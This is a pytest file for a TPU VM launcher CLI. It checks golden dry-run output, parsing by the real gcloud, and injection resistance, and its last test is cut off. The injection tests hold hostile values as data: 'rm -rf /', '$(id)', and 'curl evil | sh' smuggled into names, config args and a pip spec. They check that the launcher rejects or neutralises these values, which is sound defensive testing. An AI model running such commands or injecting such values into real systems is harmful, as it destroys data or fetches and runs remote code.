"""Tests for `python -m launch tpu-vm`: golden dry runs, real gcloud parsing, injection.

Golden files hold the dry-run output of a fixed set of invocations (INVOCATIONS);
`JAXJOB_UPDATE_GOLDENS=1 pytest tests/test_tpu_vm.py` rewrites them. Every gcloud command
those dry runs print is then handed to the real `gcloud` with an empty config directory:
it must get past argument parsing and stop at "no active account". The remote scripts
run here under bash with stub `docker`/`python3`/`gcloud`/`sudo`/`chown` that record their
argv.
"""

import concurrent.futures
import json
import os
import pathlib
import re
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from unittest import mock

import pytest

from launch import __main__ as launch_main
from launch import common, image, tpu_vm, tpu_vm_oneshot
from tests.conftest import check_golden

ROOT = pathlib.Path(__file__).resolve().parents[1]
GOLDEN_DIR = ROOT / "tests" / "golden" / "tpu_vm"
DOCS = ROOT / "docs" / "tpu-vm.md"

_V4 = ["--name=demo-v4", "--zone=us-central2-b", "--project=my-project"]
_V6E = ["--name=demo-v6e", "--zone=us-east5-b", "--project=my-project"]
_IMAGE = "--image=us-docker.pkg.dev/my-project/jaxjob/jaxjob:tpu"
# Each invocation (without --dry-run) is a command the walk-through may use.
INVOCATIONS = {
    "create_v4_spot": ["create", *_V4, "--accelerator-type=v4-8", "--spot"],
    "create_v5e": ["create", "--name=demo-v5e", "--zone=us-west4-a", "--project=my-project",
                   "--accelerator-type=v5litepod-8"],
    "create_v6e_queued_spot": ["create", *_V6E, "--accelerator-type=v6e-16", "--queued",
                               "--spot", "--valid-until-duration=6h"],
    "create_v5p_queued_version": ["create", "--name=demo-v5p", "--zone=us-east5-a",
                                  "--project=my-project", "--accelerator-type=v5p-16",
                                  "--queued", "--version=v2-alpha-tpuv5", "--owner=ml-team"],
    "create_v6e_flex_start": ["create", "--name=demo-flex", "--zone=us-east5-a",
                              "--project=my-project", "--accelerator-type=v6e-8", "--queued",
                              "--flex-start", "--max-runtime=4h", "--valid-until-duration=2h"],
    "run_v4_image": ["run", *_V4, _IMAGE, "--workdir=gs://my-bucket/runs/demo-v4", "--",
                     "--config=trainer/configs/breast_cancer.py"],
    "run_v6e_image": ["run", *_V6E, _IMAGE, "--workdir=gs://my-bucket/runs/demo-v6e", "--",
                      "--config=trainer/configs/mobile_price.py",
                      "--config.data.path=gs://my-bucket/data/mobile-price/train.csv"],
    "run_v4_pip_git": ["run", *_V4,
                       "--pip-spec=jaxjob[tpu] @ git+https://github.com/example/jaxjob@v0.1.0",
                       "--workdir=gs://my-bucket/runs/demo-v4-pip", "--",
                       "--config=trainer/configs/breast_cancer.py"],
    "run_v6e_pip_gs_wheel": ["run", *_V6E,
                             "--pip-spec=gs://my-bucket/wheels/jaxjob-0.1.0-py3-none-any.whl[tpu]",
                             "--workdir=gs://my-bucket/runs/demo-v6e-pip"],
    "logs_v4": ["logs", *_V4, "--workers=1"],
    "logs_v6e": ["logs", *_V6E],
    "logs_v6e_no_follow": ["logs", *_V6E, "--workers=4", "--no-follow"],
    "status_v4": ["status", *_V4],
    "status_v6e_queued": ["status", *_V6E, "--queued"],
    "status_orphans": ["status", "--zone=us-east5-b", "--project=my-project"],
    "delete_v4": ["delete", *_V4],
    "delete_v6e_queued": ["delete", *_V6E, "--queued"],
    "launch_v4_image": ["launch", *_V4, "--accelerator-type=v4-8", "--spot", "--max-runtime=6h",
                        _IMAGE, "--workdir=gs://my-bucket/runs/demo-v4", "--",
                        "--config=trainer/configs/breast_cancer.py"],
    "launch_v6e_queued_keep": ["launch", *_V6E, "--accelerator-type=v6e-16", "--queued", "--spot",
                               "--valid-until-duration=6h", "--keep", _IMAGE,
                               "--workdir=gs://my-bucket/runs/demo-v6e", "--",
                               "--config=trainer/configs/mobile_price.py"],
}

_GCLOUD_ENV = {
    "CLOUDSDK_CORE_DISABLE_PROMPTS": "1", "GCE_METADATA_ROOT": "127.0.0.1:9",
    "GCE_METADATA_HOST": "127.0.0.1:9", "GCE_METADATA_IP": "127.0.0.1:9",
    "NO_GCE_CHECK": "true", "CLOUDSDK_CORE_CHECK_GCE_METADATA": "false",
}
_NO_ACCOUNT = "You do not currently have an active account selected"


class _NoSubprocess:
  """Stands in for `subprocess` inside the launcher: tests must never run a command."""

  def __getattr__(self, name):
    raise AssertionError(f"the launcher tried to run a command (subprocess.{name})")


def with_dry_run(argv):
  return [argv[0], "--dry-run", *argv[1:]]  # Before any `--`, after which all is trainer's.


def cli(argv, capsys, user="alice"):
  """Runs `python -m launch tpu-vm ARGV` in-process; returns (code, stdout, stderr)."""
  with mock.patch.object(common, "subprocess", _NoSubprocess()), \
       mock.patch.object(tpu_vm, "subprocess", _NoSubprocess()), \
       mock.patch.object(tpu_vm_oneshot, "subprocess", _NoSubprocess()), \
       mock.patch.object(image, "subprocess", _NoSubprocess()), \
       mock.patch.dict(os.environ, {"USER": user}):
    return _cli(argv, capsys)


def _cli(argv, capsys):
  # The parser class of `python -m launch`, without importing the other launchers.
  parser_class = launch_main._Parser  # pylint: disable=protected-access
  parser = parser_class(prog="python -m launch")
  subparsers = parser.add_subparsers(dest="command", required=True, parser_class=parser_class)
  tpu_vm.add_parser(subparsers)
  try:
    args = parser.parse_args(["tpu-vm", *argv])
    code = args.func(args)
  except SystemExit as e:
    code = e.code
  except common.UsageError as e:
    print(f"error: {e}", file=sys.stderr)
    code = 2
  out, err = capsys.readouterr()
  return code, out, err


def dry_run_text(name, capsys):
  code, out, err = cli(with_dry_run(INVOCATIONS[name]), capsys)
  assert (code, err) == (0, ""), err
  header = shlex.join(["python", "-m", "launch", "tpu-vm", *with_dry_run(INVOCATIONS[name])])
  return f"# {header}\n{out}"


def printed_commands(text):
  """The argv of every `$ ` command in dry-run text (a quoted one may span lines)."""
  commands, pending = [], None
  for line in text.splitlines(keepends=True):
    if pending is None and not line.startswith("$ "):
      continue
    pending = line[2:] if pending is None else pending + line
    try:
      commands.append(shlex.split(pending))
      pending = None
    except ValueError:  # An open quote: the argument goes on on the next line.
      pass
  assert pending is None, f"unterminated command: {pending!r}"
  return commands


@pytest.mark.parametrize("name", sorted(INVOCATIONS))
def test_dry_run_matches_golden(name, capsys):
  text = dry_run_text(name, capsys)
  check_golden(GOLDEN_DIR / f"{name}.txt", text)


def test_no_stale_goldens():
  assert {p.stem for p in GOLDEN_DIR.glob("*.txt")} == set(INVOCATIONS)


@pytest.mark.parametrize("name", sorted(INVOCATIONS))
def test_printed_scripts_and_commands_agree(name, capsys):
  text = dry_run_text(name, capsys)
  commands = printed_commands(text)
  assert commands and all(argv[0] == "gcloud" for argv in commands)
  scripts = re.findall(r"((?:^#\| .*\n)+)", text, flags=re.M)
  shown = ["".join(line[3:] + "\n" for line in s.splitlines()) for s in scripts]
  sent = [a[len("--command="):] for argv in commands for a in argv if a.startswith("--command=")]
  assert shown == sent


def test_entry_point_prints_the_golden():
  argv = INVOCATIONS["create_v6e_queued_spot"]
  proc = subprocess.run([sys.executable, "-m", "launch", "tpu-vm", *with_dry_run(argv)],
                        cwd=ROOT, capture_output=True, text=True, check=False,
                        env=dict(os.environ, USER="alice"))
  assert proc.returncode == 0, proc.stderr
  golden = (GOLDEN_DIR / "create_v6e_queued_spot.txt").read_text()
  assert golden.split("\n", 1)[1] == proc.stdout


def _gcloud_verdict(argv, tmp_path):
  """Runs real gcloud offline; returns '' when it parsed argv, else the reason."""
  config_dir = tempfile.mkdtemp(dir=tmp_path)  # Empty, and one per concurrent gcloud.
  env = dict(os.environ, CLOUDSDK_CONFIG=config_dir, **_GCLOUD_ENV)
  proc = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60,
                        check=False, stdin=subprocess.DEVNULL)
  errors = [l for l in proc.stderr.splitlines() if l.startswith("ERROR")]
  if proc.returncode == 1 and len(errors) == 1 and _NO_ACCOUNT in errors[0]:
    return ""
  return f"rc={proc.returncode}: {proc.stderr.strip()[:300]}"


def test_real_gcloud_parses_every_command(capsys, tmp_path):
  # No skip: CI machines have the Google Cloud SDK, and this is the check that
  # catches a wrong flag.
  assert shutil.which("gcloud"), "gcloud (Google Cloud SDK) must be on PATH for this test"
  commands = {}
  for name in INVOCATIONS:
    for argv in printed_commands(dry_run_text(name, capsys)):
      commands.setdefault(tuple(argv), name)
  wrong = [  # The same check must reject a wrong flag.
      ("bogus flag", [*next(iter(commands)), "--bogus-flag"]),
      ("QR --version", ["gcloud", "compute", "tpus", "queued-resources", "create", "q",
                        "--zone=us-central2-b", "--project=p", "--node-id=q",
                        "--accelerator-type=v4-8", "--version=x"]),
  ]
  jobs = [*((name, list(argv)) for argv, name in commands.items()), *wrong]
  with concurrent.futures.ThreadPoolExecutor(4) as pool:
    verdicts = list(pool.map(lambda job: _gcloud_verdict(job[1], tmp_path), jobs))
  results = list(zip(jobs, verdicts))
  assert len(commands) >= 15
  failed = [(name, shlex.join(argv)[:200], v) for (name, argv), v in results[:-2] if v]
  assert not failed, failed
  assert all("rc=2" in v for _, v in results[-2:]), results[-2:]


def _docs_gcloud_commands(path):
  """The `gcloud ...` lines of a page's code blocks (continuations joined), as argv lists."""
  text = path.read_text().replace("\\\n", " ")
  blocks = re.findall(r"```(?:sh)?\n(.*?)```", text, flags=re.S)
  lines = [line.strip() for block in blocks for line in block.splitlines()]
  # `gcloud auth ...` changes local credentials and would not stop at "no account": left out.
  return [shlex.split(line) for line in lines
          if line.startswith("gcloud ") and not line.startswith("gcloud auth ")]


@pytest.mark.slow
def test_real_gcloud_parses_the_docs_set_up_commands(tmp_path):
  commands = [argv for page in (DOCS, ROOT / "docs" / "gke.md")
              for argv in _docs_gcloud_commands(page)]
  assert len(commands) >= 12
  assert any("--scopes=cloud-platform" in argv for argv in commands)
  with concurrent.futures.ThreadPoolExecutor(4) as pool:
    verdicts = list(pool.map(lambda argv: _gcloud_verdict(argv, tmp_path), commands))
  failed = [(shlex.join(argv)[:160], v) for argv, v in zip(commands, verdicts) if v]
  assert not failed, failed


@pytest.mark.parametrize("argv", [
    ["delete", "--name=demo;rm -rf /", "--zone=us-central2-b", "--project=p-123456"],
    ["delete", "--name=$(id)", "--zone=us-central2-b", "--project=p-123456"],
    ["delete", "--name=Demo", "--zone=us-central2-b", "--project=p-123456"],
    ["delete", "--name=demo\n", "--zone=us-central2-b", "--project=p-123456"],
    ["delete", "--name=a: b", "--zone=us-central2-b", "--project=p-123456"],
    ["delete", "--name='x'", "--zone=us-central2-b", "--project=p-123456"],
    ["delete", "--name=" + "x" * 64, "--zone=us-central2-b", "--project=p-123456"],
    ["delete", "--name=demo", "--zone=us-central2-b;id", "--project=p-123456"],
    ["delete", "--name=demo", "--zone=us-central2-b\n", "--project=p-123456"],
    ["delete", "--name=demo", "--zone=us-central2-b", "--project=p-123456 --quiet"],
    ["create", *_V4, "--accelerator-type=v4-8 --spot"],
    ["create", *_V4, "--accelerator-type=v4-8", "--version=x$(id)"],
    ["create", *_V4, "--accelerator-type=v4-8", "--queued", "--valid-until-duration=6h;id"],
    ["create", *_V4, "--accelerator-type=v4-8", "--queued", "--max-runtime=6h\n"],
    ["create", *_V4, "--accelerator-type=v4-8", "--owner=Alice Smith"],
    ["create", *_V4, "--accelerator-type=v4-8", "--owner={a: [1]}"],
    ["create", *_V4, "--accelerator-type=v7x-8"],  # No known runtime: needs --version.
    ["create", *_V4, "--accelerator-type=v4-8", "--valid-until-duration=6h"],  # Not queued.
    ["create", *_V4, "--accelerator-type=v4-8", "--max-runtime=6h"],
    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--spot", "--flex-start"],
    # gcloud documents --max-run-duration for flex-start only; flex-start needs a duration.
    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--max-runtime=6h"],
    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--flex-start"],
    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--flex-start", "--max-runtime=8d"],
    ["run", *_V4, "--image=img;id", "--workdir=gs://b-1/r"],
    ["run", *_V4, "--image=img\n", "--workdir=gs://b-1/r"],
    ["run", *_V4, "--image=$(id)", "--workdir=gs://b-1/r"],
    ["run", *_V4, _IMAGE, "--workdir=/local/path"],
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/a b"],
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/a\nb"],
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--config.x=a\nrm -rf /"],
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--workdir=gs://other/r"],
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--config.x=a\tb"],
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--config=x"],  # trainer flags go after --
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/it's"],  # the one gs:// rule of launch/common.py
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=1BAD=x"],
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=NO_VALUE"],
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=A=b\nc"],
    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--env=$(id)=1"],
    ["run", *_V4, "--pip-spec=jaxjob\ncurl evil | sh", "--workdir=gs://b-1/r"],
    ["run", *_V4, _IMAGE, "--pip-spec=jaxjob", "--workdir=gs://b-1/r"],
    ["logs", *_V4, "--workers=0"],
    ["create", *_V4, "--accelerator-type=v4-0"],  # slices are powers of two, at least 1
    ["create", *_V4, "--accelerator-type=v4-7"],
    ["create", *_V4, "--accelerator-type=v4-8", "--queued", "--valid-until-duration=0s"],
    ["run", *_V4, "--pip-spec=gs://b-1/jaxjob.zip", "--workdir=gs://b-1/r"],
    ["status", "--zone=us-central2-b", "--project=my-project", "--owner=a;b"],
])
def test_bad_values_are_rejected_before_anything_is_built(argv, capsys):
  code, out, err = cli(with_dry_run(argv), capsys)
  assert code == 2
  assert out == ""  # Nothing was built, so nothing was printed.
  assert len(err.strip().splitlines()) == 1, err


_STUB = f"""#!{sys.executable}
import json, os, sys, time
name = os.path.basename(sys.argv[0])
if name == "sudo":
  os.execvp(sys.argv[1], sys.argv[1:])
with open(os.environ["STUB_LOG"], "a") as f:
  f.write(json.dumps([name, *sys.argv[1:]]) + "\\n")
if name == "python" and sys.argv[1:2] == ["-c"]:
  print(os.environ["STUB_ROOT"])
elif name == "gcloud" and sys.argv[1:3] == ["auth", "print-access-token"]:
  print("token")
elif name == "curl":
  print("3")
elif sys.argv[1:2] == ["run"] or sys.argv[1:3] == ["-m", "trainer"]:
  print("training", "JAX_PLATFORMS=" + str(os.environ.get("JAX_PLATFORMS")),
        "XLA_FLAGS=" + str(os.environ.get("XLA_FLAGS")))
  time.sleep(float(os.environ.get("STUB_SLEEP", "0")))
  sys.exit(42)
"""


@pytest.fixture
def remote(tmp_path):
  """A fake TPU worker: stub commands on PATH, a HOME with the jaxjob venv python.

  Scripts built for it put their files in tmp_path and the compilation cache in
  tmp_path/cache (`remote_dir` and `cache_dir` of `run_script`).
  """
  stubs, home, root = tmp_path / "bin", tmp_path / "home", tmp_path / "site"
  for d in (stubs, home / "jaxjob-venv" / "bin", root):
    d.mkdir(parents=True)
  for path in [stubs / n for n in ("sudo", "docker", "gcloud", "python3", "curl", "chown")] + [
      home / "jaxjob-venv" / "bin" / "python"]:
    path.write_text(_STUB)
    path.chmod(0o755)
  env = {"PATH": f"{stubs}:/usr/bin:/bin", "HOME": str(home), "STUB_ROOT": str(root),
         "STUB_LOG": str(tmp_path / "calls.jsonl")}

  def execute(script, **extra):
    return subprocess.run(["bash", "-c", script], env={**env, **extra}, cwd=tmp_path,
                          capture_output=True, text=True, timeout=30, check=False,
                          start_new_session=True)

  def calls():
    with open(env["STUB_LOG"]) as f:
      return [json.loads(line) for line in f]

  return tmp_path, execute, calls


def _wait_for(path, timeout=10.0):
  deadline = time.monotonic() + timeout
  while not path.exists() and time.monotonic() < deadline:
    time.sleep(0.05)
  assert path.exists(), path
  return path.read_text()


NASTY_ARGS = ["--config=trainer/configs/x.py", "--config.a=$(touch pwned)", "--config.b=`id`",
              "--config.c=a'b\"c d", "--config.d=;rm -rf / #", "--config.e={a: [1, 2]}",
              "--config.f=*", "--config.g=JAXJOB_EOF", "--config.h=$HOME", ""]
NASTY_WORKDIR = "gs://my-bucket/runs/it's$(touch pwned)"


@pytest.mark.parametrize("source", ["image", "pip_git", "pip_gs"])
def test_run_script_passes_each_value_as_one_argument(source, remote):
  tmp, execute, calls = remote
  kwargs = {"image": {"image": "us-docker.pkg.dev/p/r/jaxjob:tpu"},
            "pip_git": {"pip_spec": "jaxjob[tpu] @ git+https://x/y;z'$(touch pwned)"},
            "pip_gs": {"pip_spec": "gs://b/w/jaxjob-0.1.0-py3-none-any.whl[tpu]"}}[source]
  script = tpu_vm.run_script("demo", NASTY_WORKDIR, NASTY_ARGS, remote_dir=str(tmp),
                             cache_dir=str(tmp / "cache"), **kwargs)
  proc = execute(script)
  assert proc.returncode == 0, proc.stderr
  assert _wait_for(tmp / "jaxjob-demo.exit").strip() == "42"
  trainer = [c for c in calls() if c[1:2] == ["run"] or c[1:3] == ["-m", "trainer"]]
  expected = [*NASTY_ARGS, f"--workdir={NASTY_WORKDIR}"]
  if source == "image":
    assert trainer == [["docker", "run", "--name=jaxjob-demo", "--privileged", "--net=host",
                        "--init", f"--volume={tmp / 'cache'}:/var/cache/jaxjob",
                        "--env=JAX_PLATFORMS=tpu", kwargs["image"], *expected]]
  else:
    assert trainer == [["python", "-m", "trainer", *expected]]
    install = [c for c in calls() if c[:4] == ["python3", "-m", "uv", "pip"]]
    spec = kwargs["pip_spec"] if source == "pip_git" else (
        f"jaxjob[tpu] @ file://{tmp}/jaxjob-demo-pkg/jaxjob-0.1.0-py3-none-any.whl")
    assert install[0][-1] == spec
  assert (tmp / "cache").is_dir() == (source == "image")  # A pip install uses ~/.cache.
  log = (tmp / "jaxjob-demo.log").read_text()
  assert "training" in log
  if source != "image":  # docker gets --env; the venv's python gets the variable itself
    assert "JAX_PLATFORMS=tpu" in log
  assert not list(tmp.rglob("pwned"))


def test_image_run_mounts_the_vms_compilation_cache(remote):
  # Made and handed to the image's user before the container starts, then mounted where the
  # image keeps the cache (CACHE_DIR against the Dockerfile: tests/test_dockerfile.py).
  tmp, execute, calls = remote
  cache = tmp / "cache dir"
  script = tpu_vm.run_script("demo", "gs://b-1/r", [], image="img:1", remote_dir=str(tmp),
                             cache_dir=str(cache))
  proc = execute(script)
  assert proc.returncode == 0, proc.stderr
  assert _wait_for(tmp / "jaxjob-demo.exit").strip() == "42"
  assert cache.is_dir()
  names = [c[:2] for c in calls()]
  assert calls()[names.index(["chown", image.TRAINER_USER])] == [
      "chown", image.TRAINER_USER, str(cache)]
  assert names.index(["chown", image.TRAINER_USER]) < names.index(["docker", "run"])
  (run,) = [c for c in calls() if c[:2] == ["docker", "run"]]
  assert f"--volume={cache}:{tpu_vm.CACHE_DIR}" in run[:run.index("img:1")]


@pytest.mark.parametrize("source", ["image", "pip_git"])
def test_run_env_replaces_the_default_platform_and_stays_one_value(source, remote):
  tmp, execute, calls = remote
  kwargs = {"image": {"image": "us-docker.pkg.dev/p/r/jaxjob:tpu"},
            "pip_git": {"pip_spec": "jaxjob[tpu] @ git+https://x/y"}}[source]
  env = {"JAX_PLATFORMS": "cpu", "XLA_FLAGS": "--a=1 $(touch pwned) 'q'"}
  script = tpu_vm.run_script("demo", "gs://b-1/r", [], env=env, remote_dir=str(tmp),
                             cache_dir=str(tmp / "cache"), **kwargs)
  proc = execute(script)
  assert proc.returncode == 0, proc.stderr
  assert _wait_for(tmp / "jaxjob-demo.exit").strip() == "42"
  if source == "image":
    (run,) = [c for c in calls() if c[1:2] == ["run"]]
    assert [a for a in run if a.startswith("--env=")] == [
        "--env=JAX_PLATFORMS=cpu", "--env=XLA_FLAGS=--a=1 $(touch pwned) 'q'"]
  else:
    log = (tmp / "jaxjob-demo.log").read_text()
    assert "JAX_PLATFORMS=cpu XLA_FLAGS=--a=1 $(touch pwned) 'q'" in log
  assert not list(tmp.rglob("pwned"))


def test_run_refuses_to_start_twice(remote):
  tmp, execute, _ = remote
  script = tpu_vm.run_script("demo", "gs://b-1/r", [], image="img:1", remote_dir=str(tmp),
                             cache_dir=str(tmp / "cache"))
  first = execute(script, STUB_SLEEP="30")
  try:
    assert first.returncode == 0, first.stderr
    second = execute(script)
    assert second.returncode == 3
    assert "already running" in second.stderr
  finally:
    pid = int(_wait_for(tmp / "jaxjob-demo.pid"))
    os.killpg(os.getpgid(pid), signal.SIGTERM)  # The session `first` started.


def test_logs_and_status_scripts_on_a_worker(remote):
  tmp, execute, _ = remote
  status = tpu_vm.status_script("demo", remote_dir=str(tmp))
  assert execute(status).stdout == "[worker 3] not started\n"
  (tmp / "jaxjob-demo.log").write_text("step 1\nstep 2\n")
  (tmp / "jaxjob-demo.exit").write_text("42\n")
  (tmp / "jaxjob-demo.pid").write_text("999999999\n")  # No such process: it has ended.
  expected = "step 1\nstep 2\njaxjob: trainer exited with code 42\n"
  for follow in (True, False):
    proc = execute(tpu_vm.logs_script("demo", follow=follow, remote_dir=str(tmp)))
    assert (proc.returncode, proc.stdout) == (0, expected)
  assert execute(status).stdout == "[worker 3] exited with code 42\n"
  live = subprocess.Popen(["sleep", "1"])
  reaper = threading.Thread(target=live.wait)  # Else the ended sleep lingers as a zombie.
  reaper.start()
  (tmp / "jaxjob-demo.pid").write_text(f"{live.pid}\n")
  assert execute(status).stdout == "[worker 3] running\n"
  # tail -F --pid: follows while the trainer lives, returns when it ends.
  proc = execute(tpu_vm.logs_script("demo", remote_dir=str(tmp)))
  reaper.join()
  assert proc.stdout == expected


def test_stream_workers_prefixes_every_line(tmp_path):
  out = tmp_path / "out.txt"
  with open(out, "w") as f:
    code = tpu_vm.stream_workers([["sh", "-c", "echo a; echo b"],
                                  ["sh", "-c", "printf 'c\\nd'; exit 5"]], out=f)
  lines = out.read_text().splitlines()
  assert code == 5
  assert [l for l in lines if l.startswith("[worker 0]")] == ["[worker 0] a", "[worker 0] b"]
  assert [l for l in lines if l.startswith("[worker 1]")] == ["[worker 1] c", "[worker 1] d"]


@pytest.mark.parametrize("accelerator, version", [
    ("v4-8", "tpu-ubuntu2204-base"), ("v5litepod-16", "v2-alpha-tpuv5-lite"),
    ("v5p-8", "v2-alpha-tpuv5"), ("v6e-256", "v2-alpha-tpuv6e"),
    ("v3-32", "tpu-ubuntu2204-base")])
def test_runtime_version_from_accelerator(accelerator, version):
  assert tpu_vm.runtime_version(accelerator) == version


@pytest.mark.parametrize("user, label", [
    ("alice", "alice"), ("Jane.Doe@Corp", "jane-doe-corp"), ("", "unknown"),
    (None, "unknown"), ("é", "unknown"), ("x" * 80, "x" * 63)])
def test_owner_label(user, label):
  assert tpu_vm.owner_label(user) == label


def test_owner_comes_from_user(capsys):
  code, out, _ = cli(["create", "--dry-run", *_V4, "--accelerator-type=v4-8"], capsys,
                     user="Bob.Smith")
  assert code == 0 and "--labels=jaxjob_run=demo-v4,jaxjob_owner=bob-smith" in out


def test_venv_python_is_the_projects(capsys):
  import tomllib  # pylint: disable=g-import-not-at-top
  requires = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["requires-python"]
  assert requires == f">={tpu_vm._PYTHON}"  # pylint: disable=protected-access
  _, out, _ = cli(with_dry_run(INVOCATIONS["run_v4_pip_git"]), capsys)
  assert f"--python {tpu_vm._PYTHON}" in out  # pylint: disable=protected-access
  assert f"Python {tpu_vm._PYTHON}" in DOCS.read_text()  # pylint: disable=protected-access


def test_docs_prepare_ssh_and_the_image_pull():
  text = DOCS.read_text()
  # --worker=all opens one SSH session per worker: the key must be in the agent first.
  assert text.index("ssh-add ~/.ssh/google_compute_engine") < text.index(
      "python -m launch tpu-vm run")
  assert "roles/artifactregistry.reader" in text and "roles/storage.objectUser" in text


def test_walkthrough_uses_only_tested_invocations():
  text = DOCS.read_text().replace("\\\n", " ")
  commands = [shlex.split(line) for line in text.splitlines()
              if line.startswith("python -m launch tpu-vm ")]
  tested = [["python", "-m", "launch", "tpu-vm", *argv] for argv in INVOCATIONS.values()]
  assert len(commands) >= 10
  for argv in commands:
    assert [a for a in argv if a != "--dry-run"] in tested, shlex.join(argv)


# ---------------------------------------------------------------------------------------------
# `launch`: the one-shot flow against a fake gcloud on PATH (real subprocesses, real argv).

_FAKE_GCLOUD = f"""#!{sys.executable}
import json, os, pathlib, sys, time
state = pathlib.Path(os.environ["FAKE_GCLOUD_DIR"])
argv = sys.argv[1:]
with open(state / "calls.jsonl", "a") as f:
  f.write(json.dumps(argv) + "\\n")
verb = [a for a in argv if not a.startswith("-")][:5]
def read(name, default):
  path = state / name
  return path.read_text() if path.exists() else default
if verb[2:4] == ["tpu-vm", "describe"] and "--format=value(state)" in argv:
  if (state / "describe_error").exists():
    sys.exit(read("describe_error", ""))
  if not (state / "exists").exists():
    sys.exit("ERROR: NOT_FOUND")
  print("READY")
elif verb[2:4] == ["tpu-vm", "create"]:
  sys.exit(int(read("create_rc", "0")))
elif verb[2:4] == ["tpu-vm", "describe"]:
  print("10.0.0.1\\n10.0.0.2")
elif verb[2:4] == ["queued-resources", "describe"]:
  states = read("queued", "ACTIVE").split()
  n = len(list(state.glob("qr-*")))
  (state / f"qr-{{n}}").write_text("")
  print(states[min(n, len(states) - 1)])
elif verb[2:4] == ["tpu-vm", "ssh"] and "--worker=all" in argv:
  sys.exit(int(read("run_rc", "0")))
elif verb[2:4] == ["tpu-vm", "ssh"]:
  worker = int([a for a in argv if a.startswith("--worker=")][0].split("=")[1])
  print("step 1", flush=True)
  time.sleep(float(read("sleep", "0")))
  print("jaxjob: trainer exited with code " + read("codes", "0 0").split()[worker])
"""


@pytest.fixture
def fake_gcloud(tmp_path, monkeypatch):
  bin_dir, state = tmp_path / "bin", tmp_path / "state"
  bin_dir.mkdir()
  state.mkdir()
  (bin_dir / "gcloud").write_text(_FAKE_GCLOUD)
  (bin_dir / "gcloud").chmod(0o755)
  monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
  monkeypatch.setenv("FAKE_GCLOUD_DIR", str(state))
  monkeypatch.setenv("USER", "alice")

  def calls():
    lines = (state / "calls.jsonl").read_text().splitlines()
    return [[a for a in json.loads(line) if not a.startswith("--command=")] for line in lines]

  return state, calls


def _verbs(calls):
  """Each call as `tpu-vm create`, `queued-resources delete`, `tpu-vm ssh --worker=all`, ..."""
  named = []
  for argv in calls:
    words = [a for a in argv if not a.startswith("-")]
    worker = [a for a in argv if a.startswith("--worker=")]
    named.append(" ".join(words[2:4] + worker))
  return named


def _launch(capsys, *extra, name="launch_v4_image"):
  argv = INVOCATIONS[name]
  split = argv.index("--")
  return _cli(argv[:split] + list(extra) + argv[split:], capsys)


def test_launch_creates_runs_follows_and_deletes(fake_gcloud, capsys):
  state, calls = fake_gcloud
  (state / "codes").write_text("0 3")
  code, out, _ = _launch(capsys)
  assert code == 3  # the first non-zero trainer exit code of any worker
  assert "[worker 1] jaxjob: trainer exited with code 3" in out.splitlines()
  verbs = _verbs(calls())
  assert verbs[:4] == ["tpu-vm describe", "tpu-vm create", "tpu-vm ssh --worker=all",
                       "tpu-vm describe"]
  assert sorted(verbs[4:6]) == ["tpu-vm ssh --worker=0", "tpu-vm ssh --worker=1"]
  assert verbs[6:] == ["tpu-vm delete"]


def test_launch_reuses_an_existing_vm_and_keeps_it(fake_gcloud, capsys):
  state, calls = fake_gcloud
  (state / "exists").write_text("")
  code, out, _ = _launch(capsys)
  assert code == 0 and "reused" in out
  assert "tpu-vm create" not in _verbs(calls()) and "tpu-vm delete" not in _verbs(calls())


@pytest.mark.parametrize("extra, deleted", [([], True), (["--keep"], False)])
def test_launch_deletes_after_a_failed_start_unless_kept(extra, deleted, fake_gcloud, capsys):
  state, calls = fake_gcloud
  (state / "run_rc").write_text("255")  # ssh could not reach the workers
  code, out, _ = _launch(capsys, *extra)
  assert code == 255
  assert ("tpu-vm delete" in _verbs(calls())) == deleted
  assert ("lists what is left running" in out) == (not deleted)


def test_launch_never_deletes_what_it_did_not_create(fake_gcloud, capsys):
  state, calls = fake_gcloud
  (state / "create_rc").write_text("1")  # e.g. the name was taken meanwhile
  code, _, _ = _launch(capsys)
  assert code == 1 and _verbs(calls()) == ["tpu-vm describe", "tpu-vm create"]


def test_launch_stops_when_it_cannot_tell_whether_the_vm_exists(fake_gcloud, capsys):
  state, calls = fake_gcloud
  (state / "describe_error").write_text("ERROR: PERMISSION_DENIED")
  code, _, err = _launch(capsys)
  assert code == 1 and "cannot tell whether demo-v4 exists" in err
  assert _verbs(calls()) == ["tpu-vm describe"]  # nothing created, nothing deleted


def test_launch_max_runtime_holds_without_flex_start(fake_gcloud, capsys):
  state, calls = fake_gcloud
  (state / "sleep").write_text("60")  # the trainer would run for a minute
  started = time.monotonic()
  argv = [a if a != "--max-runtime=6h" else "--max-runtime=3s"
          for a in INVOCATIONS["launch_v4_image"]]
  code, _, err = _cli(argv, capsys)
  assert code == tpu_vm_oneshot.TIMED_OUT and "--max-runtime=3s reached" in err
  assert time.monotonic() - started < 30
  assert _verbs(calls())[-1] == "tpu-vm delete"


@pytest.mark.parametrize("states, code, expected_last", [
    ("WAITING_FOR_RESOURCES PROVISIONING ACTIVE", 0, "queued-resources delete"),
    ("WAITING_FOR_RESOURCES FAILED", 1, "queued-resources delete"),
])
def test_launch_waits_for_the_queued_resource(states, code, expected_last, fake_gcloud, capsys):
  state, calls = fake_gcloud
  (state / "queued").write_text(states)
  argv = [a for a in INVOCATIONS["launch_v6e_queued_keep"] if a != "--keep"]
  split = argv.index("--")
  result, _, _ = _cli(argv[:split] + ["--poll-seconds=0.1"] + argv[split:], capsys)
  assert result == code
  verbs = _verbs(calls())
